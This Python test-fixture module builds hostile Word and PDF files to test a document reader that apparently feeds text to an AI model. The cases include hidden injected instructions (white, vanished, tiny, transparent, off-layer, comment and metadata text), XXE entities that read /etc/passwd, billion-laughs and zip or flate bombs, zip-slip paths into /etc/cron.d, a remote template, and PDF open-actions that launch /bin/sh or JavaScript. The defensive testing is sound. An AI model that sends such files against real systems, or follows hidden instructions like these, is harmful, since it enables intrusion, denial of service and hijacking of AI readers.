"""Word and PDF files that mean harm, made on the spot from ordinary ones: see ``hostile_files``."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

import docx
from hostile_files import A_MACHINE, ENGLISH, ORDER, PLAIN, Hostile
from pdf_files import with_places
from pypdf import PdfReader, PdfWriter

# --- Word

SPACE = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "word/document.xml"
DAMAGED, TOO_LARGE = "beschadigd", "uitgepakt te groot"


def saved() -> bytes:
    held = io.BytesIO()
    made = docx.Document()
    made.add_paragraph(PLAIN)
    made.save(held)
    return held.getvalue()


def rezipped(change: Mapping[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved())) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in change:
                new.writestr(name, old.read(name))
        for name, content in change.items():
            new.writestr(name, content)
    return held.getvalue()


def main(body: str, before: str = "") -> bytes:
    return f"{before}<w:document {SPACE}><w:body>{p(r(PLAIN))}{body}</w:body></w:document>".encode()


def p(runs: str, settings: str = "") -> str:
    return f"<w:p>{f'<w:pPr>{settings}</w:pPr>' if settings else ''}{runs}</w:p>"


def r(said: str, settings: str = "") -> str:
    return f"<w:r>{f'<w:rPr>{settings}</w:rPr>' if settings else ''}<w:t>{said}</w:t></w:r>"


def cell(paragraph: str, settings: str = "") -> str:
    return f"<w:tc>{f'<w:tcPr>{settings}</w:tcPr>' if settings else ''}{paragraph}</w:tc>"


def word(about: str, body: str, **expected: object) -> Hostile:
    return Hostile(about, "a.docx", lambda: rezipped({MAIN: main(body)}), **expected)  # type: ignore[arg-type]


def archive(about: str, change: Mapping[str, bytes], **expected: object) -> Hostile:
    return Hostile(about, "a.docx", lambda: rezipped(change), **expected)  # type: ignore[arg-type]


def related(kind: str, target: str, mode: str = "") -> bytes:
    """The relations of the document with one more."""
    with zipfile.ZipFile(io.BytesIO(saved())) as held:
        relations = held.read("word/_rels/document.xml.rels").decode()
    more = f'<Relationship Id="rX" Type="{RELATIONS}/{kind}" Target="{target}" {mode}/></Relationships>'
    return relations.replace("</Relationships>", more).encode()


def beside(kind: str, content: str) -> dict[str, bytes]:
    """A part beside the text: comments, a header, footnotes."""
    return {
        f"word/{kind}X.xml": f"<w:{kind} {SPACE}>{content}</w:{kind}>".encode(),
        "word/_rels/document.xml.rels": related(kind, f"{kind}X.xml"),
    }


def styled() -> bytes:
    with zipfile.ZipFile(io.BytesIO(saved())) as held:
        styles = held.read("word/styles.xml").decode()
    hiding = '<w:style w:type="character" w:styleId="Weg"><w:name w:val="Weg"/><w:rPr><w:vanish/></w:rPr></w:style>'
    based = '<w:style w:type="character" w:styleId="Ook"><w:name w:val="Ook"/><w:basedOn w:val="Weg"/></w:style>'
    return styles.replace("</w:styles>", f"{hiding}{based}</w:styles>").encode()


def with_macros() -> bytes:
    with zipfile.ZipFile(io.BytesIO(saved())) as held:
        kinds = held.read("[Content_Types].xml").decode()
    sheet = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return kinds.replace(sheet, "application/vnd.ms-word.document.macroEnabled.main+xml").encode()


def lying_sizes() -> bytes:
    """The directory says a hundred bytes; the part holds fifty million."""
    held = bytearray(rezipped({MAIN: main("") + b" " * 50_000_000}))
    at = held.rindex(MAIN.encode()) - 46  # the record in the directory at the end
    held[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(held)


def locked() -> bytes:
    held = bytearray(saved())
    at = 0
    while (at := held.find(b"PK\x01\x02", at)) >= 0:
        held[at + 8] |= 1
        at += 4
    return bytes(held)


def many_parts() -> bytes:
    return rezipped({f"word/media/{number}.bin": b"" for number in range(4000)})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
SECRET = '<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
WHITE, TINY, VANISH = '<w:color w:val="FFFFFF"/>', '<w:sz w:val="2"/>', "<w:vanish/>"
ON_WHITE = f"<w:tbl><w:tr>{cell(p(r(ORDER, WHITE)))}</w:tr></w:tbl>"
BLUE = '<w:shd w:fill="003366"/>'
ON_BLUE = f"<w:tbl><w:tr>{cell(p(r(ORDER, WHITE)), BLUE)}</w:tr></w:tbl>"
IN_ROW = f"<w:tbl><w:tr>{cell(p(r('Jeugd')))}{cell(p(r(ENGLISH)))}</w:tr></w:tbl>"
GONE = {"gone": (ORDER,), "warned": A_MACHINE}
WORDS = [
    word("hidden words", p(r(ORDER, VANISH)), **GONE),
    word("white words", p(r(ORDER, WHITE)), **GONE),
    word("white words in a cell", ON_WHITE, **GONE),
    word("white words on blue", ON_BLUE, kept=(PLAIN, ORDER), warned=A_MACHINE),
    word("tiny words", p(r(ORDER, TINY)), **GONE),
    word("words taken out", p(f"<w:del><w:r><w:delText>{ORDER}</w:delText></w:r></w:del>"), **GONE),
    word("words moved away", p(f"<w:moveFrom>{r(ORDER)}</w:moveFrom>"), **GONE),
    word("words struck out", p(r(ORDER, "<w:strike/>")), gone=(ORDER,)),
    word("an order in a table", IN_ROW, kept=(PLAIN, ENGLISH), warned=A_MACHINE),
    word(
        "the description of a picture",
        p(f'<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="{ORDER}"/></wp:inline></w:drawing></w:r>'),
        gone=(ORDER,),
    ),
    word(
        "a field that fetches",
        p(f'<w:r><w:instrText>INCLUDETEXT "/etc/passwd" {ORDER}</w:instrText></w:r>'),
        gone=(ORDER, "root:"),
    ),
    word("a document in the document", '<w:altChunk r:id="rX"/>'),
    word("three million rows", "<w:tbl>" + "<w:tr/>" * 3_000_000 + "</w:tbl>", refused=TOO_LARGE),
    word("tables in tables", "<w:tbl><w:tr><w:tc>" * 6000 + "</w:tc></w:tr></w:tbl>" * 6000, refused=DAMAGED),
    word("a paragraph of a million runs", p(r("a") * 150_000)),
    archive(
        "words hidden by a style",
        {MAIN: main(p(r(ORDER, '<w:rStyle w:val="Ook"/>'))), "word/styles.xml": styled()},
        **GONE,
    ),
    archive("a comment", beside("comments", f'<w:comment w:id="1">{p(r(ORDER))}</w:comment>'), **GONE),
    archive("a foot of the page", beside("footer", p(r(ORDER))), gone=(ORDER,)),
    archive(
        "a note",
        beside("footnotes", f'<w:footnote w:id="7">{p(r(ENGLISH))}</w:footnote>')
        | {MAIN: main(p('<w:r><w:footnoteReference w:id="7"/></w:r>'))},
        kept=(PLAIN, ENGLISH),
        warned=A_MACHINE,
    ),
    archive("macros", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, refused="macro"),
    archive("a file with macros under another name", {"[Content_Types].xml": with_macros()}, refused="macro"),
    archive(
        "a billion laughs",
        {MAIN: main(p(r("&l11;")), f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{LAUGHS}]>')},
        refused=DAMAGED,
    ),
    archive("a file of the machine", {MAIN: main(p(r("&f;")), SECRET)}, refused=DAMAGED),
    archive(
        "a file of the machine, in other letters",
        {MAIN: main(p(r("&f;")), '<?xml version="1.0" encoding="UTF-16"?>' + SECRET).decode().encode("utf-16")},
        refused=DAMAGED,
    ),
    archive("a bomb", {"word/media/x.bin": b"\0" * 70_000_000}, refused=TOO_LARGE),
    archive("one large part", {MAIN: main("") + b" " * 30_000_000}, refused=TOO_LARGE),
    archive("bombs in a bomb", {"word/embeddings/x.zip": rezipped({"x.bin": b"\0" * 9_000_000})}),
    archive("one element without end", {MAIN: main("<w:p " + " ".join(f'w:a{n}="1"' for n in range(60_000)) + "/>")}),
    archive(
        "a path to elsewhere", {"../../../../tmp/kwaad.txt": b"x", "/etc/cron.d/kwaad": b"x", "C:\\kwaad.txt": b"x"}
    ),
    archive(
        "a relation to a file of the machine",
        {"word/_rels/document.xml.rels": related("footnotes", "file:///etc/passwd", 'TargetMode="External"')},
    ),
    archive(
        "a relation out of the archive",
        {"word/_rels/document.xml.rels": related("footnotes", "../../../../etc/passwd")},
        refused=DAMAGED,
    ),
    archive(
        "a template from elsewhere",
        {
            "word/_rels/settings.xml.rels": related(
                "attachedTemplate", "https://kwaad.nl/x.dotm", 'TargetMode="External"'
            )
        },
    ),
    archive("XML that stops", {MAIN: b"<w:document"}, refused=DAMAGED),
    archive("no text at all", {MAIN: b""}, refused=DAMAGED),
    Hostile("sizes that lie", "a.docx", lying_sizes, refused=DAMAGED),
    Hostile("thousands of parts", "a.docx", many_parts, refused=TOO_LARGE),
    Hostile("a locked archive", "a.docx", locked, refused=DAMAGED),
    Hostile("half an archive", "a.docx", lambda: saved()[:5000], refused=DAMAGED),
    Hostile("Word called PDF", "a.pdf", saved, refused="het is een Word-document"),
]

# --- PDF

SHOWN = f"BT /F1 11 Tf 1 0 0 1 60 700 Tm ({PLAIN}) Tj ET\n"
SAID = f"1 0 0 1 60 650 Tm ({ORDER}) Tj ET"


def drawn(
    stream: str | bytes, *, filters: str = "", resources: str = "", catalog: str = "", more: tuple[str, ...] = ()
) -> bytes:
    """A PDF of one page with this on it; further objects begin at number 6."""
    held = stream if isinstance(stream, bytes) else stream.encode("cp1252")
    return with_places(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
            "<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Length {len(held)} {filters} >>\nstream\n{held.decode('latin-1')}\nendstream",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            f"/Resources << /Font << /F1 3 0 R >> {resources} >> >>",
            *more,
        ],
        encoding="latin-1",
    )


def printed(about: str, stream: str, **expected: object) -> Hostile:
    return Hostile(about, "a.pdf", lambda: drawn(SHOWN + stream), **expected)  # type: ignore[arg-type]


def built(about: str, *objects: str, **expected: object) -> Hostile:
    return Hostile(about, "a.pdf", lambda: with_places(objects), **expected)  # type: ignore[arg-type]


def squeezed(times: int) -> bytes:
    """Spaces by the hundred million, squeezed again and again."""
    held = b" " * 100_000_000
    for _ in range(times):
        held = zlib.compress(held, 9)
    return held


def locked_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(drawn(SHOWN))))
    writer.encrypt("geheim", algorithm="RC4-128")
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def titled() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(drawn(SHOWN))))
    writer.add_metadata({"/Title": ORDER, "/Keywords": ENGLISH})
    writer.add_attachment("kwaad.exe", b"MZ")
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def looping_table() -> bytes:
    whole = drawn(SHOWN)
    at = int(whole.rpartition(b"startxref\n")[2].split()[0])
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {at}".encode())


CATALOG, FONT = "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
OFF = "/OCProperties << /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>"
FLATE = "/Filter /FlateDecode"
READ_OR_NOT = {"refused": "|".join((DAMAGED, "alleen afbeeldingen", "te zwaar", "bladzijden", "te veel"))}
PDFS = [
    printed("no ink", f"BT 3 Tr /F1 11 Tf {SAID}", **GONE),
    printed("white", f"1 1 1 rg BT /F1 11 Tf {SAID}", **GONE),
    printed("white in the colours of print", f"0 0 0 0 k BT /F1 11 Tf {SAID}", **GONE),
    printed("white on black", f"0 g 50 600 500 90 re f 1 g BT /F1 11 Tf {SAID}", kept=(PLAIN, ORDER), warned=A_MACHINE),
    printed("letters of a point", f"BT /F1 1 Tf {SAID}", **GONE),
    printed("letters made small", f"q 0.05 0 0 0.05 0 0 cm BT /F1 11 Tf {SAID} Q", **GONE),
    printed("beside the page", f"BT /F1 11 Tf 1 0 0 1 60 -700 Tm ({ORDER}) Tj ET", **GONE),
    printed("an order", f"BT /F1 11 Tf {SAID}", kept=(PLAIN, ORDER), warned=A_MACHINE),
    Hostile(
        "a layer that is off",
        "a.pdf",
        lambda: drawn(
            f"{SHOWN}/OC /L BDC BT /F1 11 Tf {SAID} EMC",
            resources="/Properties << /L 6 0 R >>",
            catalog=OFF,
            more=("<< /Type /OCG /Name (x) >>",),
        ),
        **GONE,
    ),  # type: ignore[arg-type]
    Hostile(
        "see-through",
        "a.pdf",
        lambda: drawn(f"{SHOWN}q /G gs BT /F1 11 Tf {SAID} Q", resources="/ExtGState << /G << /ca 0 >> >>"),
        **GONE,
    ),  # type: ignore[arg-type]
    Hostile(
        "a scan",
        "scan.pdf",
        lambda: drawn(
            "q 595 0 0 842 0 0 cm /I Do Q",
            resources="/XObject << /I 6 0 R >>",
            more=("<< /Subtype /Image /Width 1 /Height 1 /Length 0 >>\nstream\n\nendstream",),
        ),
        refused="OCR",
    ),
    Hostile(
        "a searchable scan",
        "scan.pdf",
        lambda: drawn(
            "q 595 0 0 842 0 0 cm /I Do Q " + SHOWN.replace("/F1", "3 Tr /F1"),
            resources="/XObject << /I 6 0 R >>",
            more=("<< /Subtype /Image /Width 1 /Height 1 /Length 0 >>\nstream\n\nendstream",),
        ),
        warned="OCR",
    ),
    Hostile("orders around the text", "a.pdf", titled, gone=(ORDER, ENGLISH), warned=A_MACHINE),
    Hostile("locked", "a.pdf", locked_pdf, refused="wachtwoord"),
    Hostile("half a file", "a.pdf", lambda: drawn(SHOWN)[:400], **READ_OR_NOT),
    Hostile("a table that leads to itself", "a.pdf", looping_table),
    Hostile("a table somewhere else", "a.pdf", lambda: drawn(SHOWN).replace(b"startxref\n", b"startxref\n99999")),
    Hostile("a bomb", "a.pdf", lambda: drawn(squeezed(1), filters=FLATE), **READ_OR_NOT),
    Hostile(
        "a bomb in a bomb",
        "a.pdf",
        lambda: drawn(squeezed(2), filters="/Filter [/FlateDecode /FlateDecode]"),
        **READ_OR_NOT,
    ),
    Hostile(
        "filters without end",
        "a.pdf",
        lambda: drawn(SHOWN, filters=f"/Filter [{'/FlateDecode ' * 5000}]"),
        **READ_OR_NOT,
    ),
    Hostile(
        "a form in itself",
        "a.pdf",
        lambda: drawn(
            SHOWN + "/X Do",
            resources="/XObject << /X 6 0 R >>",
            more=(
                "<< /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 5 >>\n"
                "stream\n/X Do\nendstream",
            ),
        ),
    ),
    Hostile(
        "a program that starts", "a.pdf", lambda: drawn(SHOWN, catalog="/OpenAction << /S /Launch /F (/bin/sh) >>")
    ),
    Hostile(
        "a script that starts",
        "a.pdf",
        lambda: drawn(SHOWN, catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    Hostile("operators without end", "a.pdf", lambda: drawn("q " * 620_000), refused="te zwaar", is_slow=True),
    Hostile(
        "words without end",
        "a.pdf",
        lambda: drawn("BT /F1 11 Tf " + "(woord) Tj " * 70_000 + "ET"),
        refused="te zwaar",
    ),
    built(
        "pages in a circle",
        CATALOG,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        **READ_OR_NOT,
    ),
    built(
        "pages that are their own parent",
        CATALOG,
        "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
        **READ_OR_NOT,
    ),
    built(
        "a million pages",
        CATALOG,
        f"<< /Type /Pages /Kids [{'3 0 R ' * 90_000}] /Count 1000000 >>",
        PAGE,
        **READ_OR_NOT,
    ),
    built("a text that is itself", CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, "4 0 R", **READ_OR_NOT),
    built("lists in lists", CATALOG, "[" * 50_000, **READ_OR_NOT),
    built(
        "a length that lies",
        CATALOG,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE,
        "<< /Length 99999999999 >>\nstream\nx\nendstream",
        **READ_OR_NOT,
    ),
    built(
        "objects without end",
        CATALOG,
        "<< /Type /ObjStm /N 99999999 /First 9 /Length 4 >>\nstream\n1 0 \nendstream",
        **READ_OR_NOT,
    ),
    built(
        "pages below pages",
        CATALOG,
        *(f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(2, 3000)),
        PAGE,
        **READ_OR_NOT,
    ),
]
